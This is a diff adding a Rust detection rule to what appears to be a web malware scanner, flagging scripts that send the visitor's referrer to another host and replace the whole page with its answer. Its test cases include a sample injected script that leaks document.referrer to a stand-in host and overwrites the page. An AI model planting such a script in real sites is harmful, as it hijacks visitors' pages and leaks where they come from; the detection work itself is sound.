@@ -1,0 +1,43 @@
+//! `page-replaced-as-told`.
+
+use crate::facts::Atom;
+use crate::signals::near::Near;
+use crate::signals::{Evidence, Held, Signal, one};
+use crate::taint::{Mark, Sink};
+use crate::{ClassSet, Severity};
+
+pub(super) const SIGNAL: Signal = Signal {
+    id: "page-replaced-as-told",
+    description: "Another host is told where the visitor comes from, and what it answers takes the place of the page.",
+    severity: Severity::High,
+    classes: ClassSet::MALWARE,
+    needs: &[one(&[Atom::Referrer]), one(&[Atom::Request, Atom::AnswerBody])],
+    within: 200,
+    only_if: Some(is_replaced),
+    #[cfg(test)]
+    cases: crate::signals::Cases {
+        with: &[
+            "var x=new XMLHttpRequest();x.open('GET','https://pick.example/p?r='+escape(document.referrer));x.onload=function(){document.open();document.write(x.responseText);document.close()};x.send()",
+        ],
+        without: &[
+            "var x=new XMLHttpRequest();x.open('GET','/part?r='+escape(document.referrer));x.onload=function(){document.write(x.responseText)};x.send()",
+            "var x=new XMLHttpRequest();x.open('GET','https://ads.example/p?r='+escape(document.referrer));x.onload=function(){slot.innerHTML=x.responseText};x.send()",
+        ],
+    },
+};
+
+/// Whether the whole page becomes what was answered by a host that stands here.
+fn is_replaced(evidence: &Evidence<'_>, held: Held) -> bool {
+    let near = Near::new(evidence, held, 150);
+    let written = near.places();
+    let whole = evidence
+        .flows
+        .iter()
+        .filter(|flow| flow.sink == Sink::Markup && written.contains(&(flow.at as usize)))
+        .any(|flow| {
+            let of = (flow.at as usize).checked_sub(1).map_or("", |before| near.word(before));
+            (flow.marks.has(Mark::Response) || flow.marks.has(Mark::Remote))
+                && (matches!(of, "documentElement" | "body") || of == "document" && near.has_word(&["close"]))
+        });
+    whole && near.has_text(&["https://", "http://"])
+}
